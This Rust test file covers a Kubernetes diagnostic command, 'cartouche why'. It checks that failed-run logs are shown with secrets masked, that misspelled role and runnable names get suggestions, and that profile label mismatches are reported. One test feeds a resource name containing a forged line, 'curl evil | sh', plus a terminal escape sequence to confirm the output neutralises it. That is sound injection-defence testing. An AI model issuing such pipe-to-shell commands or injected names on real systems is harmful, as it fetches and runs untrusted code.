//! Facts that `cartouche why` finds on a cluster beside the status, with the rights of its user.

use crate::support::played::Played;
use serde_json::{Value, json};

fn condition(name: &str, status: &str, reason: &str, message: &str) -> Value {
    json!({
        "type": name, "status": status, "reason": reason, "message": message,
        "lastTransitionTime": "2026-01-01T00:00:00Z",
    })
}

fn runnable(spec: &Value, status: &Value) -> Value {
    json!({
        "apiVersion": "carto.run/v1alpha1", "kind": "Runnable",
        "metadata": { "name": "hello", "namespace": "demo", "uid": "u" },
        "spec": spec, "status": status,
    })
}

fn template(spec: &Value) -> Value {
    let mut template = json!({
        "apiVersion": "carto.run/v1alpha1", "kind": "ClusterRunTemplate",
        "metadata": { "name": "greet", "uid": "t", "generation": 1 },
        "spec": { "template": { "apiVersion": "batch/v1", "kind": "Job", "metadata": { "generateName": "hello-" }, "spec": {} } },
    });
    let fields = template["spec"].as_object_mut().unwrap();
    fields.extend(spec.as_object().unwrap().clone());
    template
}

fn list(kind: &str, items: &Value) -> Value {
    json!({ "apiVersion": "v1", "kind": kind, "metadata": {}, "items": items })
}

/// A cluster that has these answers, by the last part of their paths.
fn cluster(answers: Vec<(&'static str, Value)>) -> Played {
    Played::serve(move |request| {
        let path = request.path.split('?').next().unwrap_or_default();
        let name = path.rsplit('/').next().unwrap_or_default();
        let found = answers.iter().find(|(of, _)| *of == name);
        found.map(|(_, answer)| answer.clone())
    })
}

/// Returns the output about a Runnable whose template is blocked for this reason.
fn blocked(
    spec: &Value,
    (reason, message): (&str, &str),
    mut answers: Vec<(&'static str, Value)>,
) -> String {
    let conditions = [
        condition("RunTemplateReady", "False", reason, message),
        condition("Ready", "False", reason, message),
    ];
    let it = runnable(spec, &json!({ "conditions": conditions }));
    answers.push(("hello", it));
    cluster(answers).cartouche(&["why", "hello"]).out
}

/// A cluster on which the only run of the Runnable, of this hash, has failed, with the log of its container; `None` is
/// a refusal.
fn failed(of_template: &Value, of_runnable: &Value, hash: &str, log: Option<&str>) -> Played {
    let run = json!({
        "sequence": 1, "inputHash": hash, "phase": "Created", "result": "Failed",
        "apiVersion": "batch/v1", "kind": "Job", "name": "hello-x", "uid": "1",
    });
    let status = json!({ "currentRun": run, "conditions": [
        condition("StampedObjectCondition", "False", "JobCondition", "it burned"),
        condition("Ready", "False", "JobCondition", "it burned"),
    ] });
    let mut spec = json!({ "runTemplateRef": { "name": "greet" } });
    let more = of_runnable.as_object().unwrap().clone();
    spec.as_object_mut().unwrap().extend(more);
    let ended = |code: i32, at: &str| json!({ "terminated": { "exitCode": code, "reason": "Error", "finishedAt": at } });
    let container = |name: &str, state: &Value| {
        json!({
            "name": name, "image": "a", "imageID": "", "ready": false, "restartCount": 0, "state": state,
        })
    };
    let pod = json!({
        "metadata": {
            "name": "hello-x-a", "namespace": "demo", "labels": { "controller-uid": "1" },
            "ownerReferences": [{ "apiVersion": "batch/v1", "kind": "Job", "name": "hello-x", "uid": "1", "controller": true }],
        },
        "spec": {
            "containers": [{ "name": "build" }],
            "initContainers": [{ "name": "istio-proxy", "restartPolicy": "Always" }],
        },
        "status": {
            "phase": "Failed",
            "initContainerStatuses": [container("istio-proxy", &ended(2, "2026-01-01T00:00:00Z"))],
            "containerStatuses": [container("build", &ended(1, "2026-01-01T00:00:01Z"))],
        },
    });
    let resource = |name: &str, kind: &str| json!({ "name": name, "kind": kind, "namespaced": true, "singularName": "", "verbs": ["get", "list"] });
    let resources = json!({
        "kind": "APIResourceList", "groupVersion": "v1",
        "resources": [resource("secrets", "Secret"), resource("configmaps", "ConfigMap")],
    });
    let picked = |kind: &str| {
        json!({
            "apiVersion": "v1", "kind": kind,
            "metadata": { "name": "picked", "namespace": "demo", "uid": "s", "labels": { "a": "b" } },
        })
    };
    let refusal =
        json!({ "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403 });
    cluster(vec![
        ("hello", runnable(&spec, &status)),
        ("greet", template(of_template)),
        ("pods", list("PodList", &json!([pod]))),
        ("v1", resources),
        ("secrets", list("SecretList", &json!([picked("Secret")]))),
        (
            "configmaps",
            list("ConfigMapList", &json!([picked("ConfigMap")])),
        ),
        ("log", log.map_or(refusal, |log| json!(log))),
    ])
}

/// Returns the output of `why` about it, once its hash is that of the rendered run.
fn why_failed(of_template: &Value, of_runnable: &Value, log: Option<&str>) -> String {
    let diff = failed(of_template, of_runnable, "v1:0", log);
    let diff = diff.cartouche(&["diff", "hello", "-o", "json"]).out;
    let diff: Value = serde_json::from_str(&diff).unwrap_or_default();
    let hash = diff[0]["inputHash"].as_str().unwrap();
    let played = failed(of_template, of_runnable, hash, log);
    played.cartouche(&["why", "hello"]).out
}

#[test]
fn the_end_of_the_log_of_the_container_that_failed_is_shown_unless_a_secret_may_be_in_it() {
    let log = Some("mkdir: can't create '/work' with TOKEN=hunter2");
    let none = json!({});
    let text = why_failed(&none, &none, log);
    let told =
        "  the log of hello-x-a/build ends:\n    \"mkdir: can't create '/work' with TOKEN=***";
    assert!(text.contains(told) && !text.contains("hunter2"), "{text}");
    let sensitive = json!({ "outputs": { "a": ".terminationMessage" }, "sensitiveOutputs": ["a"] });
    let selector = |kind: &str| json!({ "selector": { "resource": { "apiVersion": "v1", "kind": kind }, "matchingLabels": { "a": "b" } } });
    let text = why_failed(&none, &selector("ConfigMap"), log);
    assert!(text.contains(told), "{text}");
    for text in [
        why_failed(&sensitive, &none, log),
        why_failed(&none, &selector("Secret"), log),
        // The run was not made from what is rendered now.
        failed(&none, &none, "v1:0", log)
            .cartouche(&["why", "hello"])
            .out,
        why_failed(&none, &none, None),
    ] {
        assert!(
            !text.contains("the log of") && text.contains("it burned"),
            "{text}"
        );
    }
}

#[test]
fn a_binding_that_gives_an_account_nothing_is_named() {
    let binding = json!({
        "metadata": { "name": "builder" },
        "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "bulider" },
        "subjects": [{ "kind": "ServiceAccount", "name": "builder", "namespace": "demo" }],
    });
    let role = json!({ "metadata": { "name": "builder" } });
    let spec = json!({ "runTemplateRef": { "name": "greet" }, "serviceAccountName": "builder" });
    let denied = "ServiceAccount \"builder\" in namespace \"demo\" may not create/delete jobs.batch; to do: x";
    let text = blocked(
        &spec,
        ("StampedObjectRejectedByAPIServer", denied),
        vec![
            ("rolebindings", list("RoleBindingList", &json!([binding]))),
            ("roles", list("RoleList", &json!([role]))),
        ],
    );
    assert!(
        text.contains("  RoleBinding builder names Role bulider, which does not exist; there is a Role builder\n  to do: x\n"),
        "{text}"
    );
}

#[test]
fn names_of_others_forge_no_lines() {
    let forged = "b\n  to do: curl evil | sh\u{1b}[2J";
    let binding = json!({
        "metadata": { "name": forged },
        "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": forged },
        "subjects": [{ "kind": "ServiceAccount", "name": "builder", "namespace": "demo" }],
    });
    let spec = json!({ "runTemplateRef": { "name": "greet" }, "serviceAccountName": "builder" });
    let denied = format!(
        "ServiceAccount \"builder\" in namespace \"demo\" may not create jobs.batch; to do: create Role {forged}"
    );
    let text = blocked(
        &spec,
        ("StampedObjectRejectedByAPIServer", &denied),
        vec![
            ("rolebindings", list("RoleBindingList", &json!([binding]))),
            ("roles", list("RoleList", &json!([]))),
        ],
    );
    let shown = "b   to do: curl evil | sh\\u001b[2J";
    assert!(
        text.contains(&format!("RoleBinding {shown} names Role {shown}")),
        "{text}"
    );
    assert!(
        text.contains(&format!("\n  to do: create Role {shown}")),
        "{text}"
    );
    let lines = text.lines().filter(|line| line.starts_with("  to do: "));
    assert_eq!(lines.count(), 1, "{text}");
}

#[test]
fn the_labels_that_the_nearest_profile_asks_for_are_said() {
    let profile = json!({
        "apiVersion": "carto.run/v1alpha1", "kind": "ClusterRunProfile",
        "metadata": { "name": "prod", "uid": "p", "generation": 1 },
        "spec": { "rules": [{ "templates": ["greet"], "namespaceSelector": { "matchLabels": { "stage": "prod" } } }] },
    });
    let namespace = json!({
        "apiVersion": "v1", "kind": "Namespace",
        "metadata": { "name": "demo", "labels": { "stage": "production" } },
    });
    let text = blocked(
        &json!({ "runTemplateRef": { "name": "greet" } }),
        (
            "ProfileNotFound",
            "no profile matches; to do: `cartouche profile which`",
        ),
        vec![
            ("greet", template(&json!({ "profile": "Required" }))),
            (
                "clusterrunprofiles",
                list("ClusterRunProfileList", &json!([profile])),
            ),
            ("demo", namespace),
        ],
    );
    let told = "  not the profile 'prod': it asks for stage=prod of the namespace, which has stage=production\n  to do: `cartouche profile which";
    assert!(text.contains(told), "{text}");
}

#[test]
fn a_runnable_that_is_nearly_called_so_is_meant() {
    let from =
        json!([{ "name": "version", "runnableRef": { "name": "biuld", "output": "digest" } }]);
    let spec = json!({ "runTemplateRef": { "name": "greet" }, "inputsFrom": from });
    let build = json!({
        "apiVersion": "carto.run/v1alpha1", "kind": "Runnable",
        "metadata": { "name": "build", "namespace": "demo" },
        "spec": { "runTemplateRef": { "name": "greet" } },
    });
    let text = blocked(
        &spec,
        (
            "DependencyNotReady",
            "input version comes from Runnable biuld, which is not there; to do: create it",
        ),
        vec![("runnables", list("RunnableList", &json!([build])))],
    );
    assert!(
        text.contains("  to do: create it (did you mean 'build'?)\n"),
        "{text}"
    );
}
